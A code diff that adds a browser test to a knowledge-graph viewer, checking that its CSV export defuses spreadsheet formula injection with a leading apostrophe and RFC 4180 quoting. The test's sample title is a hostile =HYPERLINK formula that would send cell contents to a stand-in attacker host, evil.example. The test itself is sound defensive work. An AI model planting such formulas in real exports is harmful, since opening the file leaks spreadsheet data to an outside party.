@@ -451,3 +451,20 @@ def test_a_large_graph_opens_on_named_communities(visit, tmp_path: Path):
     p.wait_for_timeout(100)
     assert p.evaluate("paperkg.communityNames()") == []
     clean(page)
+
+
+def test_csv_export_runs_no_formula_and_quotes_what_needs_it(visit, tmp_path: Path):
+    """A title that a spreadsheet would run (`=HYPERLINK(...)`) is exported with a leading `'`,
+    and one with a comma, a quote or a line break is quoted as RFC 4180 says."""
+    from test_html import hostile_statements
+
+    from kg.view.page import render_html
+
+    path = tmp_path / "graph.html"
+    title = '=HYPERLINK("http://evil.example/?"&A1, "click"), said "x"'
+    path.write_bytes(render_html(hostile_statements(title, "https://example.org/")))
+    page = visit(path)
+    rows = list(csv.reader(io.StringIO(page.page.evaluate("paperkg.exportCsv()"))))
+    assert rows[1][0] == "'" + title
+    assert page.page.evaluate("paperkg.exportCsv()").splitlines()[1].startswith('"\'=HYPERLINK(""http')
+    clean(page)
